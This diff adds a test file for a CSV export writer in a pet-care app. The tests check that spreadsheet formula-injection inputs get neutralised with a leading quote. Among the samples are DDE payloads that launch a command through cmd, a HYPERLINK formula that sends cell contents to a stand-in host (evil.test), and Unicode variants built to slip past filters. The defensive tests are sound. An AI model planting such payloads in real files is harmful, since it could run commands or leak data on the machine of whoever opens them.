@@ -1,0 +1,80 @@
+import type { CsvValue } from '@petcare/contracts/lists.ts';
+import { expect, test } from 'vitest';
+import { readCsv } from '../testing/read-csv.ts';
+import { writeCsv } from './write-csv.ts';
+
+async function* rowsOf<Row>(...batches: Row[][]) {
+  yield* batches;
+}
+
+/** A file of one column, read again as a spreadsheet reads it. */
+async function cellsOf(values: readonly CsvValue[]): Promise<(string | undefined)[]> {
+  const column = { key: 'cell', heading: 'cell', cell: (value: CsvValue) => value };
+  const pieces: string[] = [];
+  for await (const piece of writeCsv([column], rowsOf([...values]))) pieces.push(piece);
+  return readCsv(pieces.join(''))
+    .slice(1)
+    .map(([cell]) => cell);
+}
+
+const formulas = [
+  "=cmd|'/C calc'!A0",
+  '@SUM(1+1)',
+  '+1',
+  '-1',
+  '-2+3+cmd|calc',
+  '=HYPERLINK("http://evil.test?x="&A1,"see")',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '\u{200b}=1+1',
+  '\u{feff}@SUM(1)',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+];
+
+test.each(formulas)('no spreadsheet takes %j for a formula', async (formula) => {
+  expect(await cellsOf([formula])).toEqual([`'${formula}`]);
+});
+
+test('as it was typed, a spreadsheet would have taken it for one', () => {
+  const naive = `\u{feff}cell\r\n${formulas[0]}\r\n`;
+  expect(readCsv(naive)[1]?.[0]).toMatch(/^=/);
+});
+
+test('numbers below zero stay numbers, a phone number stays readable, and everything else stays as it is', async () => {
+  expect(await cellsOf([-5, -0.5, '+8801712345678', '01712345678', 'a=b', "it's", '2 × Ball'])).toEqual([
+    '-5',
+    '-0.5',
+    "'+8801712345678",
+    '01712345678',
+    'a=b',
+    "it's",
+    '2 × Ball',
+  ]);
+});
+
+test('commas, quotes, line breaks and Bangla arrive as they were', async () => {
+  const texts = ['Tuni, our cat', 'the "queen"', 'one\ntwo', 'one\rtwo', 'one\r\ntwo', 'বিড়ালছানা', ''];
+  expect(await cellsOf(texts)).toEqual(texts);
+});
+
+test('instants are ISO 8601, what is not there is blank, yes and no are words', async () => {
+  expect(await cellsOf([new Date(0), null, undefined, true, false])).toEqual([
+    '1970-01-01T00:00:00.000Z',
+    '',
+    '',
+    'true',
+    'false',
+  ]);
+});
+
+test('a list without rows is a file of headings', async () => {
+  const column = { key: 'name', heading: 'নাম', cell: () => '' };
+  const pieces: string[] = [];
+  for await (const piece of writeCsv([column], rowsOf())) pieces.push(piece);
+  expect(pieces.join('')).toBe('\u{feff}নাম\r\n');
+});
